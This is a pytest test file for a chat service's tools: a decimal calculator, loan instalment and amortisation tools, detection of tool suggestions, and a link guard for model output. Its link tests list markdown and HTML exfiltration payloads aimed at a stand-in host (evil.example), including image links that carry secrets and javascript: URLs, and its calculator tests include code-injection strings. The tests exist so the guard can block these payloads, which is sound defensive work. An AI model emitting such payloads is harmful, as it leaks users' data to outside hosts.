"""Tools: arithmetic against decimal itself, loan schedules to the cent, suggestions, links (CH-12, CH-14, CH-19)."""

from __future__ import annotations

import asyncio
import math
import re
from collections.abc import Callable
from decimal import ROUND_HALF_UP, Context, Decimal, DecimalException
from fractions import Fraction
from typing import Any

import pytest
from chat_harness import TENANT, USER
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st

from wireroom_chat.domain.links import REMOVED, LinkGuard
from wireroom_chat.domain.tool_suggestions import MAX_SUGGESTIONS, suggested_tools
from wireroom_chat.tools import loans
from wireroom_chat.tools.calculator import calculator
from wireroom_chat.tools.contract import Tool, ToolCaller
from wireroom_chat.tools.expressions import MAX_LENGTH, evaluate, new_context, written
from wireroom_chat.tools.lending import loan_tools
from wireroom_common.errors import ErrorKind, WireroomError

CALLER = ToolCaller(TENANT, USER)
TOOLS: dict[str, Tool] = {tool.name: tool for tool in [calculator(), *loan_tools()]}


def run(name: str, **arguments: Any) -> dict[str, Any]:
    tool = TOOLS[name]
    return dict(asyncio.run(tool.run(tool.parse(arguments), CALLER)).data)


# --- the calculator

Node = tuple[str, Callable[[Context], Decimal]]
_NUMBERS = st.decimals(min_value=0, max_value=10**9, allow_nan=False, allow_infinity=False, places=4)


def _leaf(value: Decimal) -> Node:
    return f"{value:f}", lambda context: context.create_decimal(value)


def _joined(left: Node, sign: str, right: Node) -> Node:
    operations: dict[str, Callable[[Context, Decimal, Decimal], Decimal]] = {
        "+": lambda context, one, two: context.add(one, two),
        "-": lambda context, one, two: context.subtract(one, two),
        "*": lambda context, one, two: context.multiply(one, two),
        "/": lambda context, one, two: context.divide(one, two),
    }
    return f"({left[0]} {sign} {right[0]})", lambda context: operations[sign](context, left[1](context), right[1](context))


def _negated(node: Node) -> Node:
    return f"-{node[0]}", lambda context: context.minus(node[1](context))


EXPRESSIONS = st.recursive(
    _NUMBERS.map(_leaf),
    lambda inner: st.one_of(
        st.tuples(inner, st.sampled_from("+-*/"), inner).map(lambda parts: _joined(*parts)), inner.map(_negated)
    ),
    max_leaves=12,
)


@given(EXPRESSIONS)
def test_an_expression_has_the_value_that_decimal_gives_it(node: Node) -> None:
    expression, value = node
    assume(len(expression) <= MAX_LENGTH)
    try:
        expected = value(new_context())
    except DecimalException:
        with pytest.raises(WireroomError) as caught:
            evaluate(expression)
        assert caught.value.code == "expression_undefined"
        return
    assert evaluate(expression) == expected
    assert Decimal(written(expected)) == expected


@pytest.mark.parametrize(
    ("expression", "value"),
    [
        ("0.1 + 0.2", "0.3"),
        ("2 + 3 * 4", "14"),
        ("-2 ^ 2", "-4"),
        ("2 ** 3 ** 2", "512"),
        ("2 ^ -1", "0.5"),
        ("7 // 2", "3"),
        ("10 - 4 - 3", "3"),
        ("round(2.675, 2)", "2.68"),
        ("round(-2.5)", "-3"),
        ("max(1, 3, 2) - min(4, 2)", "1"),
        ("sqrt(2) ^ 2", "2.000000000000000000000000000000000"),
        ("1_000_000 * .5", "500000"),
        ("1e3", "1000"),
        ("1 - 1", "0"),
    ],
)
def test_written_expressions(expression: str, value: str) -> None:
    result = Decimal(run("calculator", expression=expression)["value"])
    assert abs(result - Decimal(value)) < Decimal("1e-25")


@pytest.mark.parametrize(
    ("expression", "code"),
    [
        ("", "expression_invalid"),
        ("1 +", "expression_invalid"),
        ("(1", "expression_invalid"),
        ("1 2", "expression_invalid"),
        ("15% * 2", "expression_invalid"),
        ("__import__('os')", "expression_invalid"),
        ("exec(1)", "expression_invalid"),
        ("a.b", "expression_invalid"),
        ("2 ^ 0.5", "expression_invalid"),
        ("9 ^ 9999", "expression_invalid"),
        ("1" * 35, "expression_invalid"),
        ("(" * 40 + "1" + ")" * 40, "expression_invalid"),
        ("-" * 100 + "1", "expression_invalid"),
        ("1 + " * 200 + "1", "expression_invalid"),
        ("1 / 0", "expression_undefined"),
        ("0 ^ 0", "expression_undefined"),
        ("sqrt(-1)", "expression_undefined"),
        ("9e999 ^ 1000", "expression_undefined"),
    ],
)
def test_what_cannot_be_reckoned_is_refused_with_a_reason(expression: str, code: str) -> None:
    with pytest.raises(WireroomError) as caught:
        evaluate(expression)
    assert (caught.value.kind, caught.value.code) == (ErrorKind.INVALID, code)


@given(st.text(alphabet="0123456789.eE+-*/^() ,_abmxsqrtound", max_size=MAX_LENGTH))
@settings(max_examples=300)
def test_any_text_has_a_value_or_a_reason(expression: str) -> None:
    def outcome() -> object:
        try:
            return evaluate(expression).is_finite()
        except WireroomError as error:
            return error.kind

    assert outcome() in {True, ErrorKind.INVALID}


# --- loans

PRINCIPALS = st.decimals(min_value="0.01", max_value="1000000000", places=2, allow_nan=False, allow_infinity=False)
RATES = st.decimals(min_value=0, max_value=1000, places=4, allow_nan=False, allow_infinity=False)
MONTHS = st.integers(min_value=1, max_value=600)


def _half_up(exact: Fraction) -> Decimal:
    return Decimal(math.floor(exact * 100 + Fraction(1, 2))) / 100


@given(PRINCIPALS, RATES, MONTHS)
@example(Decimal("10.50"), Decimal(100), 1)
@example(Decimal("0.05"), Decimal(1000), 12)
@settings(deadline=None)
def test_a_schedule_repays_the_principal_to_the_cent(principal: Decimal, rate: Decimal, months: int) -> None:
    plan = loans.schedule(principal, rate, months)
    assert sum(entry.principal for entry in plan.payments) == principal
    assert plan.payments[-1].balance == 0
    assert len(plan.payments) <= months
    assert [entry.month for entry in plan.payments] == list(range(1, len(plan.payments) + 1))
    balance = principal
    for entry in plan.payments:
        assert entry.payment == entry.interest + entry.principal
        assert entry.interest == _half_up(Fraction(balance) * Fraction(rate) / 1200)
        assert min(entry.payment, entry.interest, entry.principal) >= 0
        balance -= entry.principal
        assert entry.balance == balance
    assert plan.paid == principal + plan.interest
    # All but the last payment are the instalment; tiny loans may be repaid early.
    assert all(entry.payment == plan.emi for entry in plan.payments[:-1])


@given(PRINCIPALS, RATES, MONTHS)
@settings(deadline=None)
def test_what_an_instalment_carries_is_worth_the_instalment(principal: Decimal, rate: Decimal, months: int) -> None:
    instalment = loans.emi(principal, rate, months)
    assume(instalment >= Decimal(1))
    carried = loans.affordable_principal(instalment, rate, months)
    # The instalment is off by at most half a cent, and so is its present value, month by month.
    assert abs(carried - principal) <= Decimal("0.005") * months + Decimal("0.01")


def test_known_instalments() -> None:
    # 100,000 at 12 % over 12 months; 250,000 at 7.1 % over 20 years; no interest.
    assert loans.emi(Decimal(100_000), Decimal(12), 12) == Decimal("8884.88")
    assert loans.emi(Decimal(250_000), Decimal("7.1"), 240) == Decimal("1953.28")
    assert loans.emi(Decimal(1000), Decimal(0), 3) == Decimal("333.33")
    plan = loans.schedule(Decimal(1000), Decimal(0), 3)
    assert [str(entry.payment) for entry in plan.payments] == ["333.33", "333.33", "333.34"]


def test_loan_tools_answer_with_amounts_as_text() -> None:
    loan = {"principal": 100_000, "annual_rate_percent": 12, "months": 12}
    assert run("loan_emi", **loan)["instalment"] == "8884.88"
    shown = run("loan_amortisation", **loan, first_month=12, rows=5)
    assert [row["month"] for row in shown["schedule"]] == [12]
    assert shown["schedule"][0]["balance"] == "0.00"
    compared = run(
        "loan_compare",
        principal="10000",
        offers=[
            {"name": "long", "annual_rate_percent": "5", "months": 48},
            {"name": "dear", "annual_rate_percent": "5", "months": 24, "fees": 900},
            {"name": "short", "annual_rate_percent": "5", "months": 24},
        ],
    )
    assert [offer["name"] for offer in compared["offers"]] == ["short", "long", "dear"]
    assert compared["cheapest"] == "short"
    income = {"monthly_income": 4000, "monthly_obligations": 500, "annual_rate_percent": 6, "months": 60}
    eligible = run("loan_eligibility", **income, requested_principal=50_000)
    assert eligible["available_for_instalment"] == "1500.00"
    assert eligible["within_limits"] is True
    assert Decimal(eligible["max_principal"]).quantize(Decimal(1), ROUND_HALF_UP) == 77_588
    assert run("loan_eligibility", **income, requested_principal=90_000)["within_limits"] is False
    assert run("loan_eligibility", **(income | {"monthly_obligations": 9000}))["max_principal"] == "0.00"


@pytest.mark.parametrize(
    ("name", "arguments", "field"),
    [
        ("loan_emi", {"principal": 0, "annual_rate_percent": 5, "months": 12}, "principal"),
        ("loan_emi", {"principal": "1.001", "annual_rate_percent": 5, "months": 12}, "principal"),
        ("loan_emi", {"principal": "NaN", "annual_rate_percent": 5, "months": 12}, "principal"),
        ("loan_emi", {"principal": 1, "annual_rate_percent": -1, "months": 12}, "annual_rate_percent"),
        ("loan_emi", {"principal": 1, "annual_rate_percent": 1, "months": 601}, "months"),
        ("loan_emi", {"principal": 1, "annual_rate_percent": 1, "months": 1, "currency": "EUR"}, "currency"),
        ("loan_compare", {"principal": 1, "offers": [{"name": "a", "annual_rate_percent": 1, "months": 1}]}, "offers"),
    ],
)
def test_arguments_that_do_not_fit_are_named(name: str, arguments: dict[str, Any], field: str) -> None:
    with pytest.raises(WireroomError) as caught:
        TOOLS[name].parse(arguments)
    assert caught.value.code == "tool_input_invalid"
    assert caught.value.fields[0].field == field


def test_schemas_are_plain_enough_for_every_provider() -> None:
    for tool in TOOLS.values():
        assert tool.schema["type"] == "object"
        assert tool.schema["additionalProperties"] is False
        assert "(?!" not in str(tool.schema)


# --- suggestions

KNOWN = {"calculator", "loan_emi", "search_news"}


def test_tools_are_found_in_blocks_and_in_prose() -> None:
    text = (
        'First reckon:\n```tool\n{"name": "loan_emi", "arguments": {"principal": 5, "months": 2}}\n```\n'
        "Then I would use the calculator tool, and search_news for the rest. A shell_exec tool is not known."
    )
    found = suggested_tools(text, KNOWN)
    assert [entry.name for entry in found] == ["loan_emi", "calculator", "search_news"]
    assert found[0].arguments == {"principal": 5, "months": 2}
    assert found[1].arguments is None


def test_a_common_word_is_no_recommendation() -> None:
    assert suggested_tools("My pocket calculator is broken.", KNOWN) == []


@given(st.text(max_size=2000))
def test_suggestions_are_known_and_few(text: str) -> None:
    found = suggested_tools(text, KNOWN)
    assert len(found) <= MAX_SUGGESTIONS
    assert {entry.name for entry in found} <= KNOWN


def test_suggestions_end_for_long_texts() -> None:
    assert suggested_tools("calculator " * 100_000 + "```tool\n" * 10_000, KNOWN) == []


# --- links

ATTACKS = [
    "![x](https://evil.example/p?d=secret)",
    "[click](https://evil.example/?d=secret)",
    "[click]( https://evil.example/?d=secret)",
    "[click](<https://evil.example/?d=secret>)",
    "[click](//evil.example/x)",
    "[click](\\\\evil.example/x)",
    "[click](/\\evil.example)",
    "[click](javascript:alert(1))",
    "[click](http&#58;//evil.example)",
    "[click](https://allowed.example@evil.example/)",
    "[click](https://allowed.example.evil.example/)",
    "[x]: https://evil.example/y",
    "<img src=https://evil.example/x>",
    "<https://evil.example>",
    "see https://evil.example/?d=secret now",
    "see HTTPS:\\\\evil.example now",
    "see www.evil.example/path now",
    "see https\u200b://evil.example now",
]


def cleaned(text: str, *, pieces: int = 0) -> str:
    guard = LinkGuard({"allowed.example"})
    guard.allow("https://news.example/tram?id=1")
    parts = [text] if not pieces else [text[start : start + pieces] for start in range(0, len(text), pieces)]
    return "".join(guard.feed(part) for part in parts) + guard.rest()


def acts(text: str) -> bool:
    """Whether a reader's program could load or open something elsewhere."""
    text = text.replace("\u200b", "")
    return (
        "![" in text
        or re.search(r"<[a-zA-Z/!?]", text) is not None
        or re.search(
            r"(?:https?|javascript)\s?:\s*[/\\]{2}|www\.|javascript:", text.replace("https://allowed.example/", ""), re.IGNORECASE
        )
        is not None
        or re.search(r"\]\((?!https://allowed\.example/|https://news\.example/tram\?id=1\)|/api/v1/artefacts/)", text) is not None
        or "]:" in text
    )


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("pieces", [0, 1, 3, 7])
def test_nothing_untrusted_is_loaded_or_opened(attack: str, pieces: int) -> None:
    assert acts(attack)
    assert not acts(cleaned(f"Before {attack} after.", pieces=pieces))


@given(
    st.lists(st.sampled_from([*ATTACKS, "](", "[", "!", "//evil.example", "http:", " ", "\n", "a"]), max_size=8).map("".join),
    st.integers(0, 9),
)
@settings(deadline=None)
def test_no_mixture_of_attacks_gets_through(text: str, pieces: int) -> None:
    assert not acts(cleaned(text, pieces=pieces))


@pytest.mark.parametrize(
    "harmless",
    [
        "[site](https://allowed.example/page) and https://allowed.example/other.",
        "[tram](https://news.example/tram?id=1)",
        "[letter](/api/v1/artefacts/0198a000-0000-7000-8000-000000000001)",
        "1 < 2, a list[0], 50 % and e.g. this; ratio 3:2 [1][2].",
    ],
)
def test_what_is_allowed_stays_as_it_is(harmless: str) -> None:
    assert cleaned(harmless) == harmless
    assert REMOVED not in cleaned(harmless)
